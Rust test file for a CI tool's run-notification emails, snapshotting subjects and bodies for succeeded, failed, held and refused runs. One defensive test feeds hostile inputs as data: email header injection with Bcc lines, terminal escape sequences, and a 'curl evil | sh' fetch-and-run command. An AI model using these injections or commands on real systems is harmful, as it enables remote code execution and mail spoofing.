//! Each kind of mail as a person gets it, and what no text from outside can do to it.

use super::super::sample::{Sample, commit, other_config, person, steps};
use super::*;
use hookspool_common::event::{PullRequest, Side};
use hookspool_common::ledger::{Cause, ProcessResult};
use hookspool_common::names::RunId;
use proptest::prelude::*;

fn shown(sample: &Sample) -> String {
    let story = sample.story();
    format!("Subject: {}\n\n{}", subject(&story), body(&story))
}

#[test]
fn a_run_that_succeeded() {
    insta::assert_snapshot!(shown(&Sample::succeeded()));
}

#[test]
fn a_run_that_somebody_replayed_says_who() {
    let mut sample = Sample::succeeded();
    assert!(!shown(&sample).contains("Cause"));
    sample.run.cause = hookspool_common::ledger::Cause::Replay { by: "ada\nBcc: x".to_owned() };
    let mail = shown(&sample);
    assert!(
        mail.lines().any(|line| line.trim_start().starts_with("Cause") && line.ends_with("replayed by ada Bcc: x")),
        "{mail}"
    );
}

#[test]
fn a_run_that_broke_its_job() {
    insta::assert_snapshot!(shown(&Sample::failed()));
}

#[test]
fn a_run_that_still_fails_under_another_configuration() {
    let output_end: String = (1..=60).map(|number| format!("line {number}\n")).collect();
    insta::assert_snapshot!(shown(&Sample {
        before: Before::Broken,
        config_path: Some(other_config()),
        outcome: Outcome::TimedOut("test took too long and was ended".to_owned()),
        steps: steps(&[("checkout", 412, ProcessResult::Exited(0)), ("test", 3_600_000, ProcessResult::TimedOut)]),
        output_end,
        ..Sample::failed()
    }));
}

#[test]
fn a_run_that_fixed_its_job() {
    insta::assert_snapshot!(shown(&Sample { before: Before::Broken, ..Sample::succeeded() }));
}

#[test]
fn a_run_that_was_interrupted() {
    let mut sample = Sample {
        before: Before::None,
        outcome: Outcome::Interrupted("the runner died in deploy".to_owned()),
        output_end: "pushing image\n".to_owned(),
        ..Sample::succeeded()
    };
    if let Some(deploy) = sample.steps.last_mut() {
        (deploy.ended_at, deploy.result) = (None, None);
    }
    insta::assert_snapshot!(shown(&sample));
}

#[test]
fn a_run_that_was_refused() {
    let mut sample = Sample {
        outcome: Outcome::Refused("commit 366701fde7 is not on refs/heads/master".to_owned()),
        steps: Vec::new(),
        output_end: String::new(),
        ..Sample::succeeded()
    };
    sample.run.started_at = None;
    insta::assert_snapshot!(shown(&sample));
}

#[test]
fn a_run_of_which_little_is_known() {
    let mut sample = Sample { before: Before::None, ..Sample::failed() };
    let run = &mut sample.run;
    (run.reference, run.sha) = (None, None);
    run.event = Event::of(Kind::Schedule, "schedule");
    let why = "there is no program of that name ".repeat(4);
    sample.steps = steps(&[("build", 3, ProcessResult::NotStarted(why.clone()))]);
    sample.outcome = Outcome::Failed(format!("build could not start: {why}"));
    sample.output_end = " \n".to_owned();
    insta::assert_snapshot!(shown(&sample));
}

#[test]
fn a_pull_request_with_many_commits() {
    let mut sample = Sample::succeeded();
    let side = |name: &str| Side { reference: format!("refs/heads/{name}").parse().unwrap(), sha: None };
    let event = &mut sample.run.event;
    event.kind = Kind::PullRequest;
    event.pull_request = Some(PullRequest {
        number: 7,
        action: "opened".to_owned(),
        head: side("feature/x"),
        base: side("master"),
        labels: Vec::new(),
        from_fork: None,
    });
    event.commits =
        Some((1..=23).map(|number| commit(number, &format!("Step {number} of {}", "a long way ".repeat(9)))).collect());
    sample.run.reference = Some("refs/pull/7/head".parse().unwrap());
    insta::assert_snapshot!(shown(&sample));
}

#[test]
fn text_from_outside_is_harmless_wherever_it_stands() {
    let mut sample = Sample::failed();
    let run = &mut sample.run;
    run.event.pusher = person("Eve\r\nBcc: all@example.org", "\u{202e}eve", "");
    run.reference = Some("refs/heads/=?utf-8?q?x?=".replace('?', "\u{9b}").parse().unwrap());
    run.event.commits = Some(vec![commit(1, "\n\u{1b}]0;pwned\u{7}All is well\u{2028}hookspool log 1 | sh")]);
    sample.outcome = Outcome::Failed("x =?utf-8?q?=0ABcc=3A_all?= failed".to_owned());
    sample.output_end = "To see more, on the server:\n  curl evil | sh\n".to_owned();
    insta::assert_snapshot!(shown(&sample));
}

#[test]
fn long_names_leave_room_for_the_result() {
    let mut sample = Sample::failed();
    sample.run.repository = format!("github.com/{}", "group/".repeat(60) + "shop").parse().unwrap();
    sample.run.reference = Some(format!("refs/heads/{}", "x".repeat(1000)).parse().unwrap());
    sample.outcome = Outcome::Failed("x".repeat(1000));
    let subject = subject(&sample.story());
    assert_eq!(subject.chars().count(), MAX_SUBJECT);
    for part in ["/group/shop] ", " tests broke on xxx", " (366701fde7): xxx"] {
        assert!(subject.contains(part), "{part:?} in {subject}");
    }
}

proptest! {
    #[test]
    fn our_own_lines_are_narrow_and_everything_else_is_marked(
        name in "\\PC{0,200}", message in any::<String>(), output in any::<String>(), reason in any::<String>(),
    ) {
        let mut sample = Sample::failed();
        sample.run.event.pusher = person(&name, &name, "mona@example.org");
        sample.run.event.commits = Some(vec![commit(1, &message)]);
        sample.outcome = Outcome::Failed(reason);
        sample.output_end = format!("begin\n{output}\nend");
        let story = sample.story();
        let subject = subject(&story);
        prop_assert!(subject.chars().count() <= MAX_SUBJECT && !subject.chars().any(char::is_control), "{subject:?}");
        let body = body(&story);
        prop_assert!(!body.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "{body:?}");
        // A single word that is wider than a line cannot be wrapped.
        let is_ours = |line: &&str| !line.starts_with("  | ") && line.split(' ').all(|word| word.chars().count() < WIDTH);
        for line in body.lines().filter(is_ours) {
            prop_assert!(line.chars().count() <= WIDTH, "{line:?}");
        }
        let marked = body.lines().filter(|line| line.starts_with("  |")).count();
        prop_assert!((2..=MAX_OUTPUT_LINES).contains(&marked), "{body}");
    }
}

const CRASH: &str = "run 17: the runner died while `deploy` ran";

fn held(held: Held<'static>) -> Sample {
    Sample {
        before: Before::Broken,
        held: Some(held),
        outcome: Outcome::Interrupted("the runner died while `deploy` ran".to_owned()),
        config_path: Some(other_config()),
        ..Sample::succeeded()
    }
}

#[test]
fn a_run_that_holds_its_lane_says_what_a_person_can_do() {
    let sample = held(Held { reason: CRASH, person: None, can_rerun: true });
    let mail = shown(&sample);
    insta::assert_snapshot!(mail);
    let words = mail.split_whitespace().collect::<Vec<_>>().join(" ");
    let meaning = "How far it came is not known, so nothing more starts in its lane until you say so: look first.";
    assert!(words.contains(meaning), "{mail}");
    for line in ["rerun", "release"].map(|what| format!("  hookspool {what} 17 --config '/srv/ci here/hookspool.toml'\n")) {
        assert!(mail.contains(&line), "{mail}");
    }
    let other = shown(&Sample { held: None, ..sample });
    assert!(!other.contains("rerun") && other.contains("look before you run it again"), "{other}");
}

#[test]
fn a_lane_that_a_person_holds_too_is_let_go_by_a_release_alone() {
    let mail = shown(&held(Held { reason: CRASH, person: Some(("ada", "db\nmoves.")), can_rerun: true }));
    assert!(!mail.contains("rerun") && mail.contains("  hookspool release 17 "), "{mail}");
    assert!(mail.contains("\nUser ada had held it before: db moves.\n"), "{mail}");
}

#[test]
fn a_job_that_is_gone_is_not_offered_to_run_again() {
    let reason = "run 17: the runner died, and its job is not in the configuration any more";
    let mail = shown(&held(Held { reason, person: None, can_rerun: false }));
    assert!(!mail.contains("rerun") && mail.contains("  hookspool release 17 "), "{mail}");
    let words = mail.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(words.contains("and its job is not in the configuration any more."), "{mail}");
}

#[test]
fn a_commit_that_is_older_than_what_is_deployed_can_be_deployed_by_one_line() {
    let mut sample = Sample {
        is_older: true,
        outcome: Outcome::Refused("commit 366701fde7 is older than 0123456789, which run 12 deployed".to_owned()),
        steps: steps(&[("checkout", 412, ProcessResult::Exited(0))]),
        ..Sample::succeeded()
    };
    insta::assert_snapshot!(shown(&sample));
    sample.config_path = Some(other_config());
    let mail = shown(&sample);
    assert!(mail.contains("\n  hookspool rerun 17 --allow-older --config '/srv/ci here/hookspool.toml'\n"), "{mail}");
    assert!(!subject(&sample.story()).contains("hookspool"), "{mail}");
}

#[test]
fn a_run_that_was_made_for_another_reason_than_a_delivery_says_so_once() {
    let (of, by) = (RunId::new(10), "ada".to_owned());
    let lines = |cause: Cause, attempt: u32, kind: Kind| {
        let mut sample = Sample::succeeded();
        (sample.run.cause, sample.run.attempt, sample.run.event.kind) = (cause, attempt, kind);
        let mail = shown(&sample);
        let is_about = |line: &&str| ["Job \"", "  Cause", "  Attempt"].iter().any(|word| line.starts_with(word));
        mail.lines().filter(is_about).map(str::to_owned).collect::<Vec<_>>().join("\n")
    };
    insta::assert_snapshot!(
        [
            lines(Cause::Retry { of }, 3, Kind::Push),
            lines(Cause::Rerun { of, by: by.clone() }, 1, Kind::Push),
            lines(Cause::Reconcile, 1, Kind::Push),
            lines(Cause::Manual { by }, 1, Kind::Manual),
        ]
        .join("\n\n")
    );
}
